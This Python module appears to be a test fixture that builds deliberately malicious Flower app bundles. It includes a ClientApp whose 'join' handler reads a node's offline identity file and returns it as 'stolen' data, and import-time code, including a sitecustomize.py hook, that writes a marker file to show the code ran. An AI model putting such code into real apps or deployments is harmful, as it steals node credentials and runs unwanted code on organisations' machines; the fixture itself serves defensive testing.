"""Bundles that would read an organisation's store, if an organisation ran them."""

# Steals on import and on every message; the reply carries what it found.
CLIENT = """
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

Path("{mark}").write_text("delivered code ran")
app = ClientApp()


@app.query("join")
def join(message, context):
    store = Path(str(context.node_config["store-dir"]))
    stolen = {{"identity": (store / "offline" / "identity").read_bytes()}}
    return Message(RecordDict({{"stolen": ConfigRecord(stolen)}}), reply_to=message)
"""


def evil_modules(mark: str) -> dict[str, str]:
    """Modules of the app's names; whoever imports one leaves a file at `mark`."""
    app = CLIENT.format(mark=mark)
    touch = f"open({mark!r}, 'w').write('delivered code ran')\n"
    return {
        "client_app/__init__.py": touch,
        "client_app/app.py": app,
        "fedlap_app/flower/client/handlers.py": touch,
        "server_app/__init__.py": "",
        "server_app/app.py": touch,
        "fedlap_app/__init__.py": touch,
        "sitecustomize.py": touch,
    }
